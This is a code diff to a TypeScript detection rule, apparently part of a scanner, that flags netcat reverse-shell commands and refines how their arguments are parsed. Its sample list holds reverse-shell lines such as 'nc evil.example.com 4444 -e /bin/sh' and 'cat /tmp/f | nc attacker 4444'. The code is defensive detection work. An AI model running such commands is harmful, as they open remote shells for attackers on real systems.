@@ -1,6 +1,7 @@
 import type { ByteRun } from '../byte-classes.ts';
 import { DIGITS, LOWER, UPPER, literal, noneOf, oneOf } from '../byte-classes.ts';
 import { isShell, withoutPunctuation, wordsFrom } from '../command.ts';
+import type { Word } from '../command.ts';
 import { WORD_START, matchAt } from '../expression.ts';
 import { MAX_REACH, defineRule } from '../rule.ts';
 
@@ -9,6 +10,7 @@ const COMMAND = new RegExp(
   'y',
 );
 
+const NETCAT = /^(?:nc|ncat|netcat)$/;
 const VARIABLE = String.raw`\$\{?\w{1,64}\}?`;
 const NAME = String.raw`(?:[A-Za-z0-9_][\w-]{0,62}\.){1,16}[A-Za-z][A-Za-z0-9-]{1,62}`;
 const IPV4 = String.raw`\d{1,3}(?:\.\d{1,3}){3}`;
@@ -48,6 +50,16 @@ function programIndex(words: readonly string[]): number {
   );
 }
 
+/** The words up to the next netcat: what comes behind that is judged with it. */
+function argumentsFrom(text: string, from: number, end: number): readonly Word[] {
+  const all: Word[] = [];
+  for (const one of wordsFrom(text, from, end)) {
+    if (NETCAT.test(one.word)) break;
+    all.push(one);
+  }
+  return all;
+}
+
 /** `nc -z` opens connections and sends nothing: how scripts wait for a service. */
 function onlyProbes(words: readonly string[]): boolean {
   return words.some((word) => /^-[A-Za-y]*z[A-Za-y]*$/.test(word));
@@ -56,19 +68,6 @@ function onlyProbes(words: readonly string[]): boolean {
 /** What may stand before the name: no letter or digit, but for the last letter of an escaped line end or tab. */
 const BEFORE: ByteRun = noneOf(`${DIGITS}${UPPER}${LOWER.replace(/[nrt]/g, '')}_`);
 const BLANK = oneOf(' \t\\');
-
-/**
- * Where a text begins with the name, nothing stands before it, and `nc` with a letter behind it is in every `async f`.
- * There the end of the host with the port makes the anchor: a top-level domain of two to five letters, `.example`
- * or `localhost`. It is asked for in the first bytes alone.
- */
-const PORT_AFTER_NAME: readonly ByteRun[] = [
-  ...[2, 3, 4].map((letters) => [...literal('.'), ...oneOf(LOWER, letters), ...literal(' '), ...oneOf(DIGITS, 2)]),
-  [...literal('.'), ...oneOf(LOWER, 5), ...literal(' '), ...oneOf(DIGITS)],
-  [...literal('ample '), ...oneOf(DIGITS, 2)],
-  [...literal('host '), ...oneOf(DIGITS, 2)],
-];
-const MAX_FIRST_PORT = 256;
 
 /**
  * Netcat with a host and a port, or with a shell to serve. A host is a dotted name, an address, `localhost` or a
@@ -86,13 +85,11 @@ export const reverseShell = defineRule({
     [...literal('ncat'), ...oneOf(' \t'), ...oneOf(`-$[:${DIGITS}`)],
     [...literal('netcat'), ...BLANK],
     [...literal('nc.'), ...oneOf('eto'), ...oneOf('xrp'), ...oneOf('ea')],
-    ...PORT_AFTER_NAME,
   ],
   match(text, at) {
-    const places = at <= MAX_FIRST_PORT ? [at, at + 1, 0] : [at, at + 1];
-    const command = places.map((place) => matchAt(COMMAND, text, place)).find((found) => found !== undefined);
+    const command = [at, at + 1].map((place) => matchAt(COMMAND, text, place)).find((found) => found !== undefined);
     if (command === undefined) return undefined;
-    const all = [...wordsFrom(text, command.to, at + MAX_REACH)];
+    const all = argumentsFrom(text, command.to, at + MAX_REACH);
     const words = all.map(({ word }) => word);
     const program = programIndex(words);
     const isCommand = COMMAND_POSITION.test(text.slice(Math.max(0, command.from - 24), command.from));
@@ -112,6 +109,7 @@ export const reverseShell = defineRule({
     String.raw`{"cmd":"nc \"$RHOST\" $RPORT"}`,
     'nc evil.example.com 4444 -e /bin/sh',
     'nc attacker.example 80',
+    'nc x.internal  80',
     '{"command":"nc attacker 4444"}',
     'cat /tmp/f | nc attacker 4444',
     'ncat localhost 9001',
